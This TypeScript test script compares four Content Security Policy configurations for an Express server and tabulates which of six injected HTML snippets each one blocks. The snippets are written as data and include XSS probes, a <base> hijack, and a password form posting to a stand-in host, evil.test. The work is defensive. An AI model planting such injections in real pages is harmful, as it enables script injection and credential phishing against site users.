import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import express, { type RequestHandler } from 'express';
import helmet from 'helmet';

// #region policies
/** A new number for each response: who injects cannot know it. */
const newNonce: RequestHandler = (_req, res, next) => {
  res.locals.nonce = randomBytes(16).toString('base64');
  next();
};
const nonceOf = (_req: IncomingMessage, res: ServerResponse) =>
  `'nonce-${(res as express.Response).locals.nonce}'`;

const policies: Record<string, RequestHandler> = {
  none: (_req, _res, next) => next(),

  // It lets our own inline scripts through, and everybody else's.
  'unsafe-inline': helmet({
    contentSecurityPolicy: {
      directives: {
        scriptSrc: ["'self'", "'unsafe-inline'"],
        scriptSrcAttr: ["'unsafe-inline'"],
      },
    },
  }),

  helmet: helmet(),

  nonce: helmet({
    contentSecurityPolicy: {
      directives: {
        scriptSrc: [nonceOf, "'strict-dynamic'"],
        baseUri: ["'none'"],
      },
    },
  }),
};
// #endregion policies

/** Each is HTML that got into the page unencoded. */
const injections = {
  'inline script': '<script>alert(1)</script>',
  'event handler': '<img src=x onerror=alert(1)>',
  'uploaded .js': '<script src=/uploads/7.js></script>',
  'other base': '<base href=https://evil.test/>',
  'form to evil.test': '<form action=https://evil.test/><input name=password>',
  'link to evil.test': '<a href=https://evil.test/>Your session has ended</a>',
};
type Injection = keyof typeof injections;

/** What a policy says of an injection, after CSP 3. */
function outcomeOf(policy: string, injection: Injection): string {
  const directives = new Map(
    policy.split(';').map((text) => {
      const [name = '', ...sources] = text.trim().split(/\s+/);
      return [name, sources];
    }),
  );
  const first = (...names: string[]) =>
    names.map((name) => directives.get(name)).find((found) => found);
  const scripts = first('script-src-elem', 'script-src', 'default-src');
  const isAllowed = {
    // A nonce in the list makes 'unsafe-inline' count for nothing.
    'inline script':
      !scripts ||
      (scripts.includes("'unsafe-inline'") &&
        !scripts.some((source) => source.startsWith("'nonce-"))),
    'event handler':
      first('script-src-attr', 'script-src', 'default-src')?.includes(
        "'unsafe-inline'",
      ) ?? true,
    'uploaded .js':
      !scripts ||
      (scripts.includes("'self'") && !scripts.includes("'strict-dynamic'")),
    // Neither of the next two falls back on default-src.
    'other base': !directives.has('base-uri'),
    'form to evil.test': !directives.has('form-action'),
    'link to evil.test': true,
  };
  return isAllowed[injection] ? 'works' : 'blocked';
}

async function policyOf(policy: RequestHandler): Promise<string> {
  const app = express();
  app.use(newNonce, policy);
  app.get('/', (_req, res) => void res.send('<p>page</p>'));
  const server = app.listen(0);
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const [one, two] = await Promise.all([
    fetch(`http://localhost:${port}/`),
    fetch(`http://localhost:${port}/`),
  ]);
  await Promise.all([one.text(), two.text()]);
  server.close();
  await once(server, 'close');
  const text = one.headers.get('content-security-policy') ?? '';
  // A nonce that is used twice can be copied from the first page.
  if (text.includes('nonce-')) {
    assert.notEqual(text, two.headers.get('content-security-policy'));
  }
  return text;
}

const seen: string[][] = [];
const texts = await Promise.all(Object.values(policies).map(policyOf));
const widths = [9, 15, 9, 9];
const row = (cells: string[]) =>
  cells
    .map((cell, i) => cell.padEnd(widths[i] ?? 0))
    .join('')
    .trim();
console.log('injected'.padEnd(19), row(Object.keys(policies)));
for (const injection of Object.keys(injections) as Injection[]) {
  const outcomes = texts.map((text) => outcomeOf(text, injection));
  console.log(injection.padEnd(19), row(outcomes));
  seen.push(outcomes);
}
assert.deepEqual(seen, [
  ['works', 'works', 'blocked', 'blocked'],
  ['works', 'works', 'blocked', 'blocked'],
  ['works', 'works', 'works', 'blocked'],
  ['works', 'blocked', 'blocked', 'blocked'],
  ['works', 'blocked', 'blocked', 'blocked'],
  ['works', 'works', 'works', 'works'],
]);
